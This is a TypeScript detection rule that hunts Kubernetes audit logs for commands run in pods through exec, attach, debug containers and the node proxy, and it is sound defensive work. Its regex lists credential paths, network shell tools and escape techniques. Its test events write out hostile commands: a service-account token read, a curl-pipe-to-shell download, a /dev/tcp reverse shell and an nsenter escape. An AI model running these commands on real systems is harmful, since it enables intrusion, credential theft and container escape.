import { WITH_OWN_WILL } from '../identities';
import type { ExampleEvent, ReadyHunt } from '../ready-hunt';

const WORKED = 'not status>=400';
/** Clients since Kubernetes 1.31 open a web socket, which is a GET. */
const COMMANDS = `type:audit resource:pods subresource:(exec or attach) verb:(create or get) ${WORKED}`;
const TELLING = String.raw`exec.command:/(\/var\/run\/secrets\/|serviceaccount\/token|\/etc\/shadow|\.ssh\/id_|\.kube\/config|\/etc\/kubernetes\/|\/dev\/(tcp|udp)\/|mkfifo|\bnc(at)? .*-[a-z]*[ec]\b|pty\.spawn|(curl|wget) .*\| *(ba|da|z|k)?sh|169\.254\.169\.254|metadata\.google|nsenter|chroot \/|release_agent|core_pattern|base64 (-d|--decode))/`;

export const commandsInPods: ReadyHunt = {
  name: 'commands-in-pods',
  title: 'Commands run in pods',
  hypothesis: 'Somebody runs commands in containers through the API server to look around, to steal, or to get out.',
  type: 'audit',
  tactics: ['Execution'],
  techniques: ['T1609', 'T1059.004', 'T1552.001', 'T1613'],
  lookFor:
    'Users who never open shells, accounts of workloads above all; commands that read tokens, call out or enter the namespaces of the node. Most of a session is typed inside and not logged: the request is its beginning.',
  falsePositives:
    'Administrators and developers who look for a fault in office hours, backup and storage programs that freeze a database with a command.',
  next: [
    {
      title: 'What else a user did around it',
      q: 'type:audit user:"NAME" | count by verb, resource, namespace, status',
    },
    { title: 'What the runtime saw in the pod', q: 'type:node pod:"NAME"' },
    { title: 'Whom the pod talked to', q: 'type:network src_pod:"NAME" | count by dst_ip, dst_pod, dst_port' },
  ],
  steps: [
    {
      title: 'Who ran what, and where',
      types: ['audit'],
      q: `${COMMANDS} | count by user, namespace, pod, exec.command`,
      onSample: { lastDay: 1, quietDays: 19, because: 'administrators who open a shell in office hours' },
      hits: [exec('create', {}), exec('get', {})],
      misses: [
        exec('create', { fields: { status: 403 } }),
        { type: 'audit', fields: { verb: 'get', resource: 'pods', subresource: 'log', status: 200 } },
      ],
    },
    {
      title: 'Commands that steal, call out or leave the container',
      types: ['audit'],
      q: `${COMMANDS} ${TELLING} | count by user, namespace, pod, exec.command`,
      onSample: { lastDay: 1, quietDays: 0 },
      hits: [
        exec('get', { attributes: { 'exec.command': 'cat /var/run/secrets/kubernetes.io/serviceaccount/token' } }),
        exec('create', { attributes: { 'exec.command': 'sh -c curl -s http://203.0.113.9/a | sh' } }),
        exec('create', { attributes: { 'exec.command': 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' } }),
        exec('get', { attributes: { 'exec.command': 'nsenter -t 1 -m -p bash' } }),
      ],
      misses: [
        exec('get', { attributes: { 'exec.command': 'sh' } }),
        exec('create', { attributes: { 'exec.command': 'curl -s http://localhost:8080/healthz' } }),
        exec('create', { attributes: { 'exec.command': 'nc -zv db 5432' } }),
      ],
    },
    {
      title: 'Commands by accounts of workloads',
      types: ['audit'],
      q: `${COMMANDS} user:system\\:serviceaccount\\:* ${WITH_OWN_WILL} | count by user, src_ip, user_agent, namespace, pod`,
      onSample: { lastDay: 1, quietDays: 0 },
      hits: [exec('get', { fields: { user: 'system:serviceaccount:shop:web' } })],
      misses: [exec('get', {})],
    },
    {
      title: "Debug containers, and the kubelet's own way in through a node's proxy",
      types: ['audit'],
      q: String.raw`type:audit ${WORKED} ((resource:pods subresource:ephemeralcontainers verb:(update or patch)) or (resource:nodes subresource:proxy path:/\/proxy\/(run|exec|attach|portForward|containerLogs|runningpods|cri)/)) | count by user, verb, resource, name, path`,
      onSample: { lastDay: 0, quietDays: 0 },
      hits: [
        {
          type: 'audit',
          fields: { verb: 'patch', resource: 'pods', subresource: 'ephemeralcontainers', status: 200, user: 'ann' },
        },
        {
          type: 'audit',
          fields: {
            verb: 'create',
            resource: 'nodes',
            subresource: 'proxy',
            path: '/api/v1/nodes/n1/proxy/run/shop/web-0/web?cmd=id',
          },
        },
      ],
      misses: [
        {
          type: 'audit',
          fields: { verb: 'get', resource: 'nodes', subresource: 'proxy', path: '/api/v1/nodes/n1/proxy/metrics' },
        },
      ],
    },
  ],
};

function exec(verb: string, { fields, attributes }: Partial<ExampleEvent>): ExampleEvent {
  const request = { user: 'ann', verb, resource: 'pods', subresource: 'exec', namespace: 'shop', status: 101 };
  return { type: 'audit', fields: { ...request, ...fields }, ...(attributes === undefined ? {} : { attributes }) };
}
